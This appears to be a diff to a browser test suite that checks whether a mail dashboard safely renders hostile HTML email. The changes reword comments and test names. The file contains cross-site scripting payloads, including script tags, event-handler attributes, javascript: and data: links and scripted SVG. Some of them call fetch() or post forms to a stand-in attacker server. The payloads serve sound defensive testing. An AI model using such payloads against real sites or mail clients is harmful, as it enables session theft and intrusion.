@@ -10,10 +10,10 @@ import { deliverMail } from '../support/context/deliver.js';
 import { type RawParts, rawMail } from '../support/mail/mail.js';
 import { type Receiver, openReceiver } from '../support/servers/receiver.js';
 
-/** Writes into the page of whoever runs it. */
+/** Modifies the page if it runs. */
 const RUN = "top.document.title='owned';parent.owned=1;document.title='owned'";
 
-/** What tries to act or to be noticed; `EVIL` becomes a server that hears of it. */
+/** Attacks by name; `EVIL` becomes a server that records requests. */
 const attacks: Record<string, string> = {
   script: `<script>${RUN};fetch('EVIL/script')</script><script src="EVIL/script.js"></script>`,
   'event handlers': `<img src="x" onerror="${RUN}"><body onload="${RUN}"><svg onload="${RUN}"><details open ontoggle="${RUN}">`,
@@ -60,7 +60,7 @@ describe('dashboard: hostile mail', function () {
     await tab.page.locator('.message-head').waitFor();
     return tab;
   };
-  /** What the mail made the browser do has been done once a page that was asked for later is there. */
+  /** The browser has handled the mail once a page requested later has loaded. */
   const settled = async ({ page, context }: Tab) => {
     await page.frameLocator('iframe').getByText('the end').waitFor({ state: 'attached' });
     await page.frames()[1]?.waitForLoadState();
@@ -70,7 +70,7 @@ describe('dashboard: hostile mail', function () {
   };
   const foreign = (tab: Tab) => tab.foreign().filter((url) => url !== bystander.url);
 
-  it('runs nothing and asks nobody, whatever is in it', async () => {
+  it('runs no script and sends no request, whatever the mail contains', async () => {
     const html = Object.values(attacks).join('\n').replaceAll('EVIL', evilOrigin());
     const logo = `Content-Type: image/svg+xml\nContent-ID: <logo>\nContent-Disposition: inline\n\n<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><image href="${evilOrigin()}/in-svg.png"/></svg>`;
     const tab = await show({ html: `${html}<p>the end</p>`, parts: [logo] });
@@ -78,7 +78,7 @@ describe('dashboard: hostile mail', function () {
     expect(foreign(tab)).to.deep.equal([]);
     expect(evil.connections()).to.equal(0);
     expect(await outcome(tab)).to.equal('box · Mayfly');
-    // The frame itself stays where it is, and asks for nothing in our name.
+    // The frame itself has not navigated and sends no request with the session.
     expect(tab.page.frames().map((frame) => frame.url())[1]).to.contain('/html?remote=false');
     const inOurName = tab.asked.filter(
       (url) => /\/api\/tokens|\/tokens$/.test(url) && !tab.forbidden.includes(url),
@@ -87,7 +87,7 @@ describe('dashboard: hostile mail', function () {
     await tab.close();
   });
 
-  it('withstands each attack on its own', async () => {
+  it('resists each attack separately', async () => {
     const tab = await dashboard.open('/mailboxes/box');
     for (const [name, attack] of Object.entries(attacks)) {
       const html = `${attack.replaceAll('EVIL', evilOrigin())}<p>the end</p>`;
@@ -102,7 +102,7 @@ describe('dashboard: hostile mail', function () {
     await tab.close();
   });
 
-  it('sends no form', async () => {
+  it('submits no form', async () => {
     const tab = await show({
       html: `<form action="${evilOrigin()}/form" method="post"><input name="q" value="1"><button>Go</button></form><p>the end</p>`,
     });
@@ -114,7 +114,7 @@ describe('dashboard: hostile mail', function () {
     await tab.close();
   });
 
-  it('opens links in a tab that knows nothing of ours, and none that are scripts', async () => {
+  it('opens links in an isolated tab, and ignores script links', async () => {
     const tab = await show({
       html: `<a href="${evilOrigin()}/link">plain</a> <a href="${evilOrigin()}/top" target="_top">top</a> <a href="javascript:${RUN}">script</a> <a href="data:text/html,<script>${RUN}</script>">data</a><p>the end</p>`,
     });
@@ -135,7 +135,7 @@ describe('dashboard: hostile mail', function () {
     await tab.close();
   });
 
-  it('loads pictures once somebody asks for them, and still runs nothing', async () => {
+  it('loads remote pictures on request, and still runs no script', async () => {
     const { length } = evil.received;
     const tab = await show({
       html: `<img src="${evilOrigin()}/wanted.png"><script>${RUN}</script><p>the end</p>`,
@@ -146,13 +146,13 @@ describe('dashboard: hostile mail', function () {
     await evil.request(length + 1, PATIENCE_MS);
     expect(evil.received.at(-1)?.path).to.equal('/wanted.png');
     expect(await outcome(tab)).to.equal('box · Mayfly');
-    // The frame's change of address is nothing to go back to.
+    // The navigation of the frame adds no history entry.
     await tab.page.goBack();
     expect(tab.page.url()).not.to.contain('/messages/');
     await tab.close();
   });
 
-  it('shows names and subjects as the text they are', async () => {
+  it('shows markup in names and subjects as text', async () => {
     const markup = `<img src=x onerror=${RUN}>`;
     const file = (name: string) =>
       `Content-Type: text/html"><script>\nContent-Disposition: attachment; filename="${name}"\n\n<script>${RUN}</script>`;
